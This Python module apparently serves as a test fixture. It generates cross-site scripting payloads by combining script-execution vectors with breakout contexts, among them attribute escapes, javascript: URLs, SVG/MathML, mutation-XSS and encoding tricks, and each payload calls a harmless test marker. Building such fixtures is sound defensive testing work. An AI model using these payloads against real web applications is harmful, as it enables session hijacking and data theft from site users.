"""Payloads from two lists: what would run, and the place it tries to break out of. Each pair has a name.

What runs calls ``ran("context × vector")``, which the browser of the test knows.
"""

from __future__ import annotations

import html
from collections.abc import Iterator

# In what runs, CALL stands for the call.
VECTORS = {
    "script": "<script>CALL</script>",
    "img-onerror": "<img src=x onerror=CALL>",
    "svg-onload": "<svg onload=CALL>",
    "iframe-srcdoc": "<iframe srcdoc='<script>parent.CALL</script>'></iframe>",
    "iframe-src": "<iframe src='javascript:parent.CALL'></iframe>",
    "details-toggle": "<details open ontoggle=CALL>",
    "video-source": "<video><source onerror=CALL></video>",
    "autofocus": "<input autofocus onfocus=CALL>",
    "style-animation": "<style>@keyframes a{}</style><b style=animation-name:a onanimationstart=CALL>",
    "object": "<object data='javascript:parent.CALL'></object>",
    "embed": "<embed src='data:text/html,<script>parent.CALL</script>'>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url=javascript:CALL'>",
    "body-onload": "<body onload=CALL onpageshow=CALL>",
    "marquee": "<marquee onstart=CALL>",
}
# In the place broken out of, VECTOR stands for what runs, and CALL for the bare call.
CONTEXTS = {
    "text": "VECTOR",
    "attribute-double": '">VECTOR',
    "attribute-single": "'>VECTOR",
    "attribute-bare": "x onmouseover=CALL autofocus onfocus=CALL tabindex=1 VECTOR",
    "attribute-event": '" onfocus="CALL" autofocus onpointerenter="CALL" x="',
    "url": "javascript:CALL//VECTOR",
    "url-odd": "java\tscript\n:CALL",
    "url-data": "data:text/html,VECTOR",
    "url-encoded": "&#106;avascript&colon;CALL",
    "css": "</style>VECTOR",
    "css-url": "red;background:url(javascript:CALL)}</style>VECTOR",
    "svg": "<svg><g>VECTOR</g></svg>",
    "svg-animate": "<svg><animate onbegin=CALL attributeName=x dur=1s>VECTOR",
    "svg-use": "<svg><a xlink:href=javascript:CALL><text y=20>x</text></a>VECTOR</svg>",
    "svg-foreign": "<svg><foreignObject>VECTOR</foreignObject></svg>",
    "mathml": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;VECTOR'>",
    "mathml-href": "<math><maction actiontype=statusline xlink:href=javascript:CALL>x</maction>VECTOR</math>",
    "template": "<template>VECTOR</template>",
    "template-language": "{{VECTOR}}{%VECTOR%}${CALL}#{CALL}",
    "script-json": '</script>VECTOR{"',
    "script-string": "\u2028';CALL;//VECTOR",
    "comment": "-->VECTOR<!--",
    "textarea": "</textarea>VECTOR",
    "title": "</title>VECTOR",
    "mutation-noscript": '<noscript><p title="</noscript>VECTOR">',
    "mutation-style": '<svg></p><style><a id="</style>VECTOR">',
    "mutation-form": '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>VECTOR">',
    "cdata": "<![CDATA[VECTOR]]>]]>VECTOR",
    "unicode-full-width": "＜script＞CALL＜/script＞VECTOR",
    "unicode-escape": "\\u003cscript\\u003eCALL\\u003c/script\\u003e\\x3cimg src=x onerror=CALL\\x3e",
    "unicode-invisible": "<scr\u00adipt>CALL</script><\u200bscript>CALL</script>VECTOR",
    "escaped": "ESCAPED",
    "escaped-twice": "TWICE",
    "percent": "%3Cscript%3ECALL%3C/script%3E%253Cscript%253ECALL",
    "line-separator": "\u2029VECTOR",
    "spreadsheet": '=HYPERLINK("javascript:CALL")VECTOR',
}


def payload(context: str, vector: str) -> str:
    """What a hostile author writes for one pair."""
    call = f"ran(`{context}×{vector}`)"
    runs = VECTORS[vector].replace("CALL", call)
    text = CONTEXTS[context].replace("ESCAPED", html.escape(runs))
    text = text.replace("TWICE", html.escape(html.escape(runs)))
    return text.replace("VECTOR", runs).replace("CALL", call)


def pairs() -> Iterator[tuple[str, str]]:
    """Every pair of the two lists."""
    for context in CONTEXTS:
        for vector in VECTORS:
            yield context, vector


def all_of_them() -> dict[str, str]:
    """Every pair's payload by its name."""
    return {f"{context}×{vector}": payload(context, vector) for context, vector in pairs()}


def filled(longest: int, most: int = 10_000) -> list[str]:
    """Texts of at most ``longest`` characters that hold the payloads that fit, as many as fit into each."""
    texts: list[str] = []
    text = ""
    for one in sorted(all_of_them().values(), key=len):
        if len(one) > longest:
            continue
        if len(text) + len(one) + 1 > longest:
            texts.append(text)
            text = ""
        text = f"{text} {one}".strip()
    return [*texts, text][:most]
